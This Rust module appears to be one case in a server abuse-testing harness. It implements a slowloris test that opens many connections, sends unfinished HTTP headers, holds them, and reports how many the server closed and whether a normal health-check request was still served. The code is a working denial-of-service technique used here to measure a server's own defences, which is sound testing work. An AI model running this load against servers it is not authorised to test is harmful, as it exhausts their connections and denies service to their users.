//! `slowloris`: many connections that start a request and never finish its headers. A server
//! without a header deadline holds each one (a socket, a task, a buffer) for ever. The
//! figures are how many the server closed by the end of the hold, how many it still keeps,
//! and whether a normal request was served while they were held.

use std::{
    collections::BTreeMap,
    net::SocketAddr,
    time::{Duration, Instant},
};

use futures::{stream, StreamExt};
use serde_json::{json, Value};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
};

use super::{describe, AbuseArgs};
use crate::setup;

/// The request start every connection sends: the headers' closing blank line never follows.
const PARTIAL_REQUEST: &[u8] = b"GET / HTTP/1.1\r\nHost: x\r\n";
/// Handshakes in flight while opening.
const CONNECT_CONCURRENCY: usize = 256;
/// How long a probe waits for the server to speak or hang up before calling a connection open.
const PROBE_WAIT: Duration = Duration::from_millis(200);

/// How a held connection looks when probed.
enum Probe {
    Open,
    /// EOF or reset.
    Closed,
    /// The server wrote something (say a 408) and maybe closed; its first line is kept.
    Answered(String),
}

/// Runs the case.
pub async fn run(args: &AbuseArgs) -> anyhow::Result<Value> {
    let server = setup::server_addr(&args.base)?;
    let started = Instant::now();
    let opened: Vec<Result<TcpStream, String>> = stream::iter(0..args.slowloris_connections)
        .map(|i| open_partial(server, setup::source_address(i, args.sources)))
        .buffer_unordered(CONNECT_CONCURRENCY)
        .collect()
        .await;
    let connect_seconds = started.elapsed().as_secs_f64();
    let mut connect_failures: BTreeMap<String, u64> = BTreeMap::new();
    let mut held = Vec::new();
    for outcome in opened {
        match outcome {
            Ok(connection) => held.push(connection),
            Err(kind) => *connect_failures.entry(kind).or_default() += 1,
        }
    }

    tokio::time::sleep(Duration::from_secs(args.slowloris_secs)).await;
    let served_during_hold = probe_service(&args.base).await;
    let probes = futures::future::join_all(held.iter_mut().map(probe)).await;
    let (mut closed, mut still_open, mut answered) = (0usize, 0usize, 0usize);
    let mut first_answer = None;
    for outcome in probes {
        match outcome {
            Probe::Open => still_open += 1,
            Probe::Closed => closed += 1,
            Probe::Answered(line) => {
                answered += 1;
                first_answer.get_or_insert(line);
            }
        }
    }
    Ok(json!({
        "requested": args.slowloris_connections,
        "connected": held.len(),
        "refused_or_failed_at_connect": args.slowloris_connections - held.len(),
        "connect_failures": connect_failures,
        "connect_seconds": connect_seconds,
        "held_seconds": args.slowloris_secs,
        "closed_by_server": closed + answered,
        "closed_silently": closed,
        "answered_before_closing": answered,
        "first_answer": first_answer,
        "still_open": still_open,
        "normal_request_during_hold": served_during_hold,
    }))
}

/// Connects from `source` (when the server is on loopback) and sends the partial request.
async fn open_partial(server: SocketAddr, source: std::net::IpAddr) -> Result<TcpStream, String> {
    let socket = if server.is_ipv4() {
        TcpSocket::new_v4()
    } else {
        TcpSocket::new_v6()
    }
    .map_err(|e| format!("socket: {e}"))?;
    if server.ip().is_loopback() && server.is_ipv4() {
        socket
            .bind(SocketAddr::new(source, 0))
            .map_err(|e| format!("bind: {e}"))?;
    }
    let mut connection = socket
        .connect(server)
        .await
        .map_err(|e| format!("connect: {:?}", e.kind()))?;
    connection
        .write_all(PARTIAL_REQUEST)
        .await
        .map_err(|e| format!("write: {:?}", e.kind()))?;
    Ok(connection)
}

/// Reads briefly: silence means the server still holds the connection.
async fn probe(connection: &mut TcpStream) -> Probe {
    let mut buf = [0u8; 256];
    match tokio::time::timeout(PROBE_WAIT, connection.read(&mut buf)).await {
        Err(_) => Probe::Open,
        Ok(Ok(0) | Err(_)) => Probe::Closed,
        Ok(Ok(n)) => {
            let text = String::from_utf8_lossy(buf.get(..n).unwrap_or_default());
            Probe::Answered(text.lines().next().unwrap_or_default().to_owned())
        }
    }
}

/// A normal request on a fresh connection while the slow ones are held: status and seconds,
/// or why it failed.
async fn probe_service(base: &str) -> Value {
    let started = Instant::now();
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .build();
    let outcome = match client {
        Ok(client) => client.get(format!("{base}/healthz")).send().await,
        Err(e) => return json!({ "error": describe(e) }),
    };
    match outcome {
        Ok(response) => json!({
            "status": response.status().as_u16(),
            "seconds": started.elapsed().as_secs_f64(),
        }),
        Err(e) => json!({ "error": describe(e), "seconds": started.elapsed().as_secs_f64() }),
    }
}
